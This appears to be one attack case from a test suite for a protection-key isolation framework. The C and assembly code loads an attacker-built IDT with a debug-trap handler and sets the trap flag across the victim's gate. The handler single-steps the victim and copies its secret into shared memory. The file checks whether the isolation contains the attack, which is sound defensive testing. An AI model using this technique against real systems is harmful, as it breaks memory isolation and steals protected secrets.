/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Load an IDT of its own whose #DB entry is the attacker's handler, set TF and call the victim through
 * its gate: every instruction traps to the handler, which runs in whatever domain the gate has
 * switched to.  The handler cannot touch the attacker's data from the victim's domain, so it keeps
 * what it needs in debug registers (DR0: a block at the end of the shared heap, DR1: the attacker's
 * PKRU, DR2: the secret's address, DR3: a step count) and copies the secret into the shared block the
 * first time PKRU is not the attacker's; it runs on IST 1 (a private stack is not writable in the
 * victim's domain, the kernel's interrupt stack is).  The table itself is in the shared heap too: the
 * CPU reads it with the domain of the moment (an IDT in the attacker's memory triple-faults there).
 * Ring 3 cannot run LIDT (nor MOV to DR*).
 */
#include <bulkhead/cpu.h>
#include "loot.h"

extern char __bh_shared_heap_end[];
struct __attribute__((packed)) dtr {
	uint16_t limit;
	uint64_t base;
};

void lidt_db(void);

__asm__(".text\n"
	".globl lidt_db\n"
	"lidt_db:\n"
	"	pushq %rax\n	pushq %rcx\n	pushq %rdx\n	pushq %rsi\n	pushq %rdi\n"
	"	movq %dr3, %rax\n	incq %rax\n	movq %rax, %dr3\n"
	"	cmpq $200000, %rax\n	jae 2f\n"
	"	xorl %ecx, %ecx\n	rdpkru\n"
	"	movq %dr1, %rdx\n	cmpl %edx, %eax\n	je 1f\n"
	"	movq %dr2, %rsi\n	movq %dr0, %rdi\n"
	"	movq 0(%rsi), %rax\n	movq %rax, 0(%rdi)\n	movq 8(%rsi), %rax\n	movq %rax, 8(%rdi)\n"
	"	movq 16(%rsi), %rax\n	movq %rax, 16(%rdi)\n	movq 24(%rsi), %rax\n	movq %rax, 24(%rdi)\n"
	"2:	andq $~0x100, 56(%rsp)\n"          /* the interrupted RFLAGS: 5 pushes, RIP, CS, then RFLAGS */
	"1:	popq %rdi\n	popq %rsi\n	popq %rdx\n	popq %rcx\n	popq %rax\n"
	"	iretq\n");

const char *attack_name(void) { return "lidt: an IDT of its own with a #DB handler, TF set across the victim's gate"; }

void attack(void)
{
	const volatile char *p = victim_secret_ptr();
	volatile char *block = ATTACK_LOOT;
	unsigned char *idt = (unsigned char *)ATTACK_IDT;
	struct dtr old, mine;
	uint16_t cs;
	__asm__ volatile("sidt %0" : "=m"(old));
	__asm__ volatile("movw %%cs, %0" : "=r"(cs));
	__builtin_memcpy(idt, (const void *)old.base, old.limit + 1u);
	uint64_t h = (uint64_t)&lidt_db;
	unsigned char *e = idt + 1 * 16;    /* vector 1, #DB */
	e[0] = h & 0xff; e[1] = (h >> 8) & 0xff; e[2] = cs & 0xff; e[3] = cs >> 8;
	e[4] = 1;          /* IST 1: the kernel's interrupt stack, writable in every domain */
	e[5] = 0x8e;
	e[6] = (h >> 16) & 0xff; e[7] = (h >> 24) & 0xff;
	for (int i = 0; i < 4; i++)
		e[8 + i] = (h >> (32 + 8 * i)) & 0xff;
	mine.limit = old.limit;
	mine.base = (uint64_t)idt;
	uint64_t pkru = bh_rdpkru(), zero = 0;
	__asm__ volatile("movq %0, %%dr0\n\tmovq %1, %%dr1\n\tmovq %2, %%dr2\n\tmovq %3, %%dr3"
			 : : "r"(block), "r"(pkru), "r"(p), "r"(zero));
	__asm__ volatile("lidt %0" : : "m"(mine));
	__asm__ volatile("pushfq\n\torq $0x100, (%%rsp)\n\tpopfq" : : : "memory", "cc");
	uint32_t d = victim_digest();       /* single-stepped, through the gate */
	__asm__ volatile("pushfq\n\tandq $~0x100, (%%rsp)\n\tpopfq" : : : "memory", "cc");
	__asm__ volatile("lidt %0" : : "m"(old));
	bh_printf("attacks: digest 0x%08x\n", (unsigned)d);
	attack_not_contained("LIDT accepted; the #DB handler ran in the gate's domain");
}
